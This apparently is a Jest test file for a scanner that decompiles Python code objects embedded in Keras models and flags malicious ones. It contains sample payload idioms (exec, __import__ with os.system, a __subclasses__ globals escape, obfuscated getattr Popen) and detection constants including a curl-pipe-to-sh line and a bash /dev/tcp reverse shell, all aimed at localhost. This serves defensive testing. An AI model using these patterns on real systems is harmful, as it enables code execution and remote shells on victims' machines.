import { readFileSync } from 'fs';
import { join } from 'path';
import { judgeCode } from '../../../rules/judge-code';
import { Work } from '../../../work';
import { readMarshal } from '..';
import { MarshalError, MarshalReader } from '../marshal-reader';
import { looksLikeCode } from '../marshal-attempt';

const FREE = new Work(Infinity);

/** Code objects by Python version and name, made by tests/fixtures/keras/make_codes.py. */
const CODES = JSON.parse(
  readFileSync(join(__dirname, '../../../../../tests/fixtures/keras/codes.json'), 'utf8')
) as Record<string, Record<string, string>>;
const VERSIONS = Object.keys(CODES);
const PYTHON3 = VERSIONS.filter(version => version !== '2.7');

const bytesOf = (base64: string): Uint8Array => new Uint8Array(Buffer.from(base64, 'base64'));
const read = (version: string, name: string) => {
  const summary = readMarshal(bytesOf(CODES[version][name]), FREE);
  if (!summary) {
    throw new Error(`${version} ${name} was not read`);
  }
  return summary;
};
const ascii = (text: string): number[] => Array.from(text, char => char.charCodeAt(0));

describe('readMarshal', () => {
  it.each(PYTHON3)('writes the lambdas of Python %s as Python', version => {
    expect(read(version, 'double').text).toBe('lambda x: (x * 2) + 1');
    expect(read(version, 'mean').text).toBe('lambda x: tf.reduce_mean(x, axis=[1, 2])');
    expect(read(version, 'exec').text).toBe(`lambda x: exec('import os; os.system("echo hi")') or x`);
    expect(read(version, 'import').text).toBe("lambda x: __import__('os').system('echo hi')");
    expect(read(version, 'condition').text).toMatch(
      /^lambda x, y: if x is not None: (return \(x\[0\] - x\[1\]\) \*\* 2; return y|return \(\(x\[0\] - x\[1\]\) \*\* 2\) else y)$/
    );
    expect(read(version, 'subclasses').text).toContain(
      "__subclasses__()[132].__init__.__globals__['system']('echo hi')"
    );
    expect(read(version, 'getattr').text).toMatch(
      /getattr\(__import__\('subprocess'\), 'Po(pen'|' \+ 'pen')\)\(\['echo', 'x'\], shell=False\) and x$/
    );
  });

  it('stops at code in code that is deeper than any compiler makes, long before its own stack ends', () => {
    const start = [...ascii('c'), ...new Array<number>(20).fill(0), ...ascii('s'), 0, 0, 0, 0];
    const deep = Uint8Array.from(Array.from({ length: 1_900 }, () => start).flat());
    const reader = new MarshalReader(deep, 0, '3.11', FREE);
    expect(() => reader.read()).toThrow(new MarshalError('limit-depth'));
  });

  it.each(PYTHON3)('shows what a function of Python %s does, in handlers and loops too', version => {
    const summary = read(version, 'function');
    for (const part of [
      'import os',
      'from subprocess import Popen as P',
      "open('/tmp/x', 'w')",
      "P(['echo', 'hi'])",
      "os.remove('a')"
    ]) {
      expect(summary.text).toContain(part);
    }
    expect(summary.paths).toEqual(expect.arrayContaining(['subprocess.Popen', 'os.remove', 'open']));
    expect(summary).toMatchObject({ name: 'f', complete: true, understood: true });
  });

  it.each(PYTHON3)('follows the whole language of Python %s', version => {
    const summary = read(version, 'syntax');
    expect(summary).toMatchObject({ understood: true, complete: true });
    for (const part of [
      'total = [1, 2] + list(args)',
      "'b': 2.5, 'c': b'raw', 'd': (3+4j), 'e': 2 ** 100",
      "table['k'] = {1, 2, x} | frozenset((3, 4))",
      "'>3')",
      'call(*args, **kw)',
      "'key': x",
      'first = args[0]',
      'rest = args[1:]',
      'one = x[0]',
      'x.attribute = x.deep.method(one) is two',
      'x.attribute += 1',
      "Local = __build_class__(Local, 'Local', Base)",
      'item = next(range(10))',
      'if item > 5:',
      "raise AssertionError('message')",
      'import a.b.c',
      'raise ValueError(x) from None',
      'close(x)',
      'return (yield inner(1))',
      'a.b.c.run(ab.other)',
      'lambda y, z: y + z',
      'class Local: ',
      'size = 1'
    ]) {
      expect(summary.text).toContain(part);
    }
    expect(summary.paths).toEqual(expect.arrayContaining(['a.b.c.run', 'ValueError', 'close', 'list']));
    expect(judgeCode(summary, true)).toBeUndefined();
    expect(judgeCode(summary)).toMatchObject({ severity: 'HIGH', module: 'a.b.c', operator: '__import__' });
  });

  it('finds what inner code does', () => {
    for (const version of VERSIONS) {
      const summary = read(version, 'comprehension');
      expect(summary.names).toEqual(expect.arrayContaining(['os', 'system']));
      expect(summary.texts).toEqual(expect.arrayContaining(version === '2.7' ? ['echo a'] : []));
    }
    expect(read('3.8', 'comprehension').text).toContain('<listcomp>: c = next(.0); append(os.system(c))');
  });

  it('lists names and constants of a Python that it does not know', () => {
    const bytes = bytesOf(CODES['3.13'].import);
    // RESUME of 3.13 becomes a number that no known version has.
    const at = bytes.indexOf(149);
    bytes[at] = 200;
    expect(readMarshal(bytes, FREE)).toMatchObject({
      understood: false,
      names: ['__import__', 'system'],
      complete: true
    });
  });

  it('does not explain code whose inline caches are not empty: a jump could lead into them', () => {
    const bytes = bytesOf(CODES['3.12'].exec);
    const load = bytes.findIndex((byte, index) => byte === 116 && bytes[index + 2] === 0 && bytes[index + 3] === 0);
    bytes[load + 2] = 83;
    expect(readMarshal(bytes, FREE)).toMatchObject({ understood: false, names: ['exec'] });
  });

  it('keeps what stands before the end of truncated data', () => {
    for (const version of VERSIONS) {
      const bytes = bytesOf(CODES[version].import);
      const summary = readMarshal(bytes.subarray(0, bytes.length - 6), FREE);
      expect(summary).toMatchObject({ complete: false, reason: 'truncated' });
      expect(summary?.names).toContain('__import__');
    }
  });

  it('reads data that holds no code without a word', () => {
    expect(readMarshal(bytesOf('Tg=='), FREE)).toBeUndefined();
    // (1, 2.5, 'a', b'b', [None, True], {'k': -1}), version 2 of the format.
    const tuple = [
      ...ascii('('),
      6,
      0,
      0,
      0,
      ...ascii('i'),
      1,
      0,
      0,
      0,
      ...ascii('g'),
      0,
      0,
      0,
      0,
      0,
      0,
      4,
      64,
      ...ascii('u'),
      1,
      0,
      0,
      0,
      97
    ];
    tuple.push(
      ...ascii('s'),
      1,
      0,
      0,
      0,
      98,
      ...ascii('['),
      2,
      0,
      0,
      0,
      ...ascii('NT'),
      ...ascii('{u'),
      1,
      0,
      0,
      0,
      107,
      ...ascii('i'),
      255,
      255,
      255,
      255,
      ...ascii('0')
    );
    expect(readMarshal(Uint8Array.from(tuple), FREE)).toBeUndefined();
  });

  it.each([
    ['a tuple that claims four billion items', [0x28, 255, 255, 255, 127]],
    ['tuples without end inside each other', Array.from({ length: 5_000 }, () => [0x29, 1]).flat()],
    ['a reference to nothing', [0x72, 9, 0, 0, 0]],
    ['a list that holds itself', [0xdb, 1, 0, 0, 0, 0x72, 0, 0, 0, 0]],
    ['an unknown type', [0x21]],
    ['an endless integer', [0x6c, 255, 255, 255, 127, 1]],
    ['nothing', []]
  ])('survives %s', (_, bytes) => {
    expect(() => readMarshal(Uint8Array.from(bytes), FREE)).not.toThrow();
  });

  it('survives mutated code objects', () => {
    let seed = 7;
    const random = (below: number): number => {
      seed = (Math.imul(seed, 1103515245) + 12345) & 0x7fffffff;
      return seed % below;
    };
    for (let round = 0; round < 800; round++) {
      const version = VERSIONS[random(VERSIONS.length)];
      const names = Object.keys(CODES[version]);
      const bytes = bytesOf(CODES[version][names[random(names.length)]]);
      for (let i = 0; i <= random(6); i++) {
        bytes[random(bytes.length)] = random(256);
      }
      const summary = readMarshal(bytes.subarray(0, random(10) === 0 ? random(bytes.length) : bytes.length), FREE);
      expect(summary === undefined || summary.text.length <= 8_000).toBe(true);
      if (summary) {
        judgeCode(summary);
      }
    }
  });

  it('knows the start of a code object', () => {
    expect(looksLikeCode(bytesOf(CODES['3.11'].double))).toBe(true);
    expect(looksLikeCode(bytesOf(CODES['2.7'].double))).toBe(true);
    expect(looksLikeCode(Uint8Array.from(ascii('config of some layer, and more text')))).toBe(false);
  });
});

describe('judgeCode', () => {
  it.each(VERSIONS)('sees through the payloads of Python %s', version => {
    const worst = (name: string) => {
      const judgement = judgeCode(read(version, name));
      return judgement && `${judgement.severity} ${judgement.module}.${judgement.operator}`;
    };
    expect(worst('import')).toMatch(/^CRITICAL (builtins\.__import__|os\.system)$/);
    expect(worst('getattr')).toMatch(/^CRITICAL (builtins\.__import__|subprocess\.)/);
    expect(worst('comprehension')).toBe('CRITICAL os.system');
    expect(worst('subclasses')).toMatch(/^(CRITICAL|HIGH) /);
    expect(worst('function')).toMatch(/^CRITICAL (subprocess\.Popen|os\.|subprocess\.)/);
    if (version !== '2.7') {
      expect(worst('exec')).toBe('CRITICAL builtins.exec');
    }
  });

  it.each(VERSIONS)('says nothing about arithmetic of Python %s', version => {
    for (const name of ['double', 'mean', 'condition', 'honest_eval']) {
      expect(judgeCode(read(version, name))).toBeUndefined();
    }
  });

  it('tells K.eval from the built-in only where the instructions are understood', () => {
    const code = { imports: [], names: ['K', 'eval'], paths: ['K', 'K.eval'], texts: [] };
    expect(judgeCode({ ...code, understood: true })).toBeUndefined();
    expect(judgeCode({ ...code, understood: false })?.operator).toBe('eval');
  });

  it.each([
    ['import os', ['HIGH', 'builtins', '__import__']],
    ["os.popen('id')", ['HIGH', 'os', 'system']],
    ['curl http://127.0.0.1:9/x | sh', ['HIGH', 'os', 'system']],
    ['bash -i >& /dev/tcp/127.0.0.1/9', ['HIGH', 'os', 'system']]
  ])('reads the constant %j', (text, [severity, module, operator]) => {
    expect(judgeCode({ names: ['f'], paths: ['f'], texts: [text], imports: [], understood: true })).toMatchObject({
      severity,
      module,
      operator
    });
  });

  it('leaves honest constants alone', () => {
    const texts = [
      'float32',
      'same',
      'Scale the inputs by the mean of the batch.',
      'bilinear',
      'ij,jk->ik',
      'https://keras.io'
    ];
    expect(
      judgeCode({ names: ['tf', 'cast'], paths: ['tf', 'tf.cast'], texts, imports: [], understood: true })
    ).toBeUndefined();
  });

  it.each([
    [['tf', 'tf.io', 'tf.io.write_file'], 'write_file'],
    [['np', 'np.load'], 'load'],
    [['random', 'random._os', 'random._os.system'], 'system'],
    [['urllib', 'urllib.request', 'urllib.request.urlopen'], 'urlopen']
  ])('follows %j', (paths, operator) => {
    const names = [...new Set(paths.flatMap(path => path.split('.')))];
    expect(judgeCode({ names, paths, texts: [], imports: [], understood: true })?.names.join()).toContain(operator);
  });
});
